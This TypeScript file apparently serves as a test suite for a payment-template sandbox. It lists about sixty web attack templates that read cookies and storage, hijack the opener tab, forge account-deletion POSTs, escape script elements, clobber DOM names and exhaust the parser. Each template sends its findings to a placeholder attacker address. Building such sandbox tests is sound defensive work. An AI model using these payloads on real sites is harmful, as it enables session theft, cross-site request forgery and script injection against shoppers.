// Templates that attack the shopper or the shop. `{evil}` stands for the attacker's address, `{shop}` for the shop's.

export interface Attack {
  readonly what: string;
  readonly html: string;
  /** It is shown unchanged, including its scripts. */
  readonly runs?: true;
}

/** Runs where scripts may run, and then sends the attacker what it found. */
const run = (code: string, more = ''): string =>
  `<!doctype html><body>${more}<script>
var got = []; function say(x) { got.push(String(x)) }
try { ${code} } catch (e) { say('stopped: ' + e.name) }
setTimeout(function () { location.href = '{evil}/done?' + encodeURIComponent(got.join('|')) }, 300);
</script>`;
/** One plain form, with a script that does nothing but submit it. */
const plain = (attributes: string, inside = '', around = ''): string =>
  `<!doctype html><body>${around}<form name="f" method="post" ${attributes}><input type="hidden" name="MD" value="1">${inside}</form><script>document.f.submit()</script>`;
const toEvil = 'action="{evil}/done"';

const scripted = (what: string, code: string, more?: string): Attack => ({
  what,
  html: run(code, more),
  runs: true,
});

export const ATTACKS: readonly Attack[] = [
  // Attacks on what the shop's origin stores.
  scripted('reads the cookies', 'say(document.cookie)'),
  scripted('reads the storage', 'say(localStorage.getItem("secret"))'),
  scripted('reads the storage of the session', 'say(sessionStorage.getItem("secret"))'),
  scripted('opens the database', 'say(indexedDB.open("shop"))'),
  scripted('opens the caches', 'caches.keys().then(say, say)'),
  scripted('sets a cookie', 'document.cookie = "session=evil; path=/"'),
  scripted('plants a worker', 'navigator.serviceWorker.register("{shop}/sw.js").then(say, say)'),
  scripted('widens its domain', 'document.domain = "localhost"; say(document.cookie)'),
  // Attacks on the shop's tab.
  scripted('steers the opener', 'opener.location.href = "{evil}/stolen"'),
  scripted('reads the opener', 'say(opener.document.getElementById("pan").value)'),
  scripted('speaks to the opener', 'opener.postMessage({ type: "returned" }, "*")'),
  scripted('finds the opener by name', 'window.open("{evil}/stolen", "shop-tab")'),
  {
    what: 'posts a form into the shop’s tab',
    html: `<form name=a></form>${plain(`action="{evil}/stolen" target="shop-tab"`)}<script>void fetch; setTimeout(function(){location.href='{evil}/done'},300)</script>`,
  },
  { what: 'posts a plain form into the shop’s tab', html: plain(`${toEvil} target="shop-tab"`) },
  scripted('steers the parent', 'parent.location.href = "javascript:alert(1)"'),
  scripted('steers the top', 'top.location.href = "javascript:void(opener && opener.postMessage(document.cookie))"'),
  scripted(
    'goes back to our page and reads it',
    'history.back(); say(document.documentElement.innerHTML.indexOf("eximpe-page"))',
  ),
  scripted(
    'sends messages on our channel',
    'new BroadcastChannel("eximpe-attempt-0f8fad5b-d9cb-469f-a165-70867728950e").postMessage({ type: "returned" }); say("said")',
  ),
  // Attacks on the shop's pages.
  scripted(
    'fetches the account',
    'fetch("{shop}/account", { credentials: "include" }).then(function (r) { return r.text() }).then(say, say)',
  ),
  scripted(
    'fetches the account with no-cors',
    'fetch("{shop}/account", { credentials: "include", mode: "no-cors" }).then(say, say)',
  ),
  scripted(
    'posts as the shopper',
    'fetch("{shop}/account/delete", { method: "POST", credentials: "include", mode: "no-cors" }).then(say, say)',
  ),
  scripted(
    'posts as the shopper, by XMLHttpRequest',
    'var x = new XMLHttpRequest(); x.open("POST", "{shop}/account/delete"); x.withCredentials = true; x.send()',
  ),
  scripted(
    'builds a form and posts it to the shop',
    'var f = document.createElement("form"); f.method = "post"; f.action = "{shop}/account/delete"; document.body.append(f); f.submit()',
  ),
  scripted('sends a beacon', 'say(navigator.sendBeacon("{shop}/account/delete", "x"))'),
  scripted(
    'frames the checkout',
    'var f = document.createElement("iframe"); f.src = "{shop}/checkout"; document.body.append(f); f.onload = function () { try { say(f.contentDocument.cookie) } catch (e) { say(e.name) } }',
  ),
  scripted(
    'frames a document of its own',
    'var f = document.createElement("iframe"); f.srcdoc = "<script>try{parent.say(document.cookie)}catch(e){parent.postMessage(e.name,\'*\')}<\\/script>"; document.body.append(f)',
  ),
  scripted('opens the checkout', 'var w = window.open("{shop}/checkout"); say(w && w.document.cookie)'),
  scripted(
    'starts a worker',
    "new Worker(URL.createObjectURL(new Blob([\"fetch('{shop}/account/delete',{method:'POST'})\"])))",
  ),
  scripted('makes code of text', 'say(new Function("return document.cookie + localStorage.getItem(\'secret\')")())'),
  scripted('has its opener make code of text', 'opener.eval("window.hacked = 1")'),
  scripted('sends a script to the opener by name', 'window.open("javascript:window.hacked=1", "shop-tab")'),
  scripted('writes into the opener by name', 'window.open("", "shop-tab").document.write("<p>Paid</p>")'),
  scripted(
    'reads the history of its window',
    'say(JSON.stringify(navigation.entries().map(function (e) { return e.url })))',
  ),
  scripted(
    'fetches our launch page',
    'fetch(location.href.replace("/template", ""), { credentials: "include" }).then(function (r) { return r.text() }).then(say, say)',
  ),
  scripted(
    'listens on our channel',
    'new BroadcastChannel("eximpe-attempt-0f8fad5b-d9cb-469f-a165-70867728950e").onmessage = function (e) { say(e.data) }',
  ),
  scripted('asks for the shopper’s saved card', 'navigator.credentials.get({ password: true }).then(say, say)'),
  scripted('loads a picture of the account', 'new Image().src = "{shop}/account/delete"'),
  { what: 'posts to the shop in several forms', html: `<form></form>${plain('action="{shop}/account/delete"')}` },
  { what: 'posts to the shop', html: plain('action="{shop}/account/delete"') },
  { what: 'posts to the shop by a base element', html: plain('action="account/delete"', '', '<base href="{shop}/">') },
  { what: 'posts to the shop with a user name', html: plain('action="http://user@localhost/account/delete"') },
  {
    what: 'posts to the shop by a button’s formaction',
    html: `<form method=post ${toEvil}><button id=b name=x formaction="{shop}/account/delete">go</button></form><script>document.getElementById('b').click()</script>`,
  },
  {
    what: 'posts to the shop by a field named action',
    html: plain('', '<input name="action" value="{shop}/account/delete">'),
  },
  { what: 'redirects to the shop', html: '<meta http-equiv="refresh" content="0;url={shop}/account/delete">' },
  {
    what: 'redirects to a script',
    html: '<meta http-equiv="refresh" content="0;url=javascript:opener.hacked=1">',
  },
  {
    what: 'does its device check by posting to the shop',
    html: `<iframe name=look hidden></iframe><form name=m action="{shop}/account/delete" method=post target=look></form>${plain(toEvil).replace('<script>', '<script>document.m.submit();')}`,
  },
  // Attacks on our own page.
  { what: 'posts to a script', html: plain('action="javascript:alert(document.domain)"') },
  { what: 'posts to a disguised script', html: plain('action="&#1;java&#9;script:alert(document.domain)"') },
  { what: 'posts to a document of its own', html: plain('action="data:text/html,<script>opener.hacked=1</script>"') },
  {
    what: 'breaks out of our data element',
    html: `</script><script>opener && (opener.hacked = 1); window.hacked = 1</script>\u2028\u2029<!--<script>-->${plain(toEvil)}`,
  },
  {
    what: 'takes the place of our data element',
    html: plain(toEvil, '', '<div id="eximpe-page">{"page":"launch","template":"x"}</div>'),
  },
  {
    what: 'handlers that fire while the page is parsed',
    html: plain(
      toEvil,
      '<input autofocus onfocus="window.hacked=1"><img src="x" onerror="window.hacked=1"><svg onload="window.hacked=1"></svg>',
    ),
  },
  {
    what: 'names that shadow DOM properties',
    html: plain(
      `${toEvil} id="documentElement"`,
      '<input name="attributes"><input name="getAttribute"><input name="elements"><input name="nodeName"><input name="parentNode"><input name="__proto__" value="x"><input name="constructor">',
      '<img name="querySelectorAll"><img name="body"><img name="forms">',
    ),
  },
  ...[
    ['constructors', 'document.f.submit.constructor("window.hacked=1")()'],
    ['a global constructor', 'constructor.constructor("window.hacked=1")()'],
    ['prototypes', '__proto__.constructor("x"); "x".constructor.constructor("window.hacked=1")()'],
    ['getters', '__defineGetter__("x", function(){ return 1 }); toString(); valueOf()'],
    ['a timer with code as text', 'setTimeout("window.hacked=1;document.f.submit()", 0)'],
    ['a call on another function', 'document.f.submit.call.call(alert, window)'],
  ].map(([what, code]) => ({
    what: `leads the script interpreter to ${what}`,
    html: plain(toEvil).replace('<script>', `<script>try { ${code} } catch (e) {} `),
  })),
  { what: 'deeply nested markup', html: `${'<div>'.repeat(20_000)}${plain(toEvil)}` },
  {
    what: 'a deeply nested script',
    html: plain(toEvil)
      .replace('<script>', `<script>${'('.repeat(50_000)}`)
      .concat(`<script>setTimeout(function(){location.href='{evil}/done'},300)</script>`),
  },
  {
    what: 'a function that calls itself',
    html: plain(toEvil).replace('<script>', `<script>function a(){ a(); a() } try { a() } catch (e) {} `),
  },
];
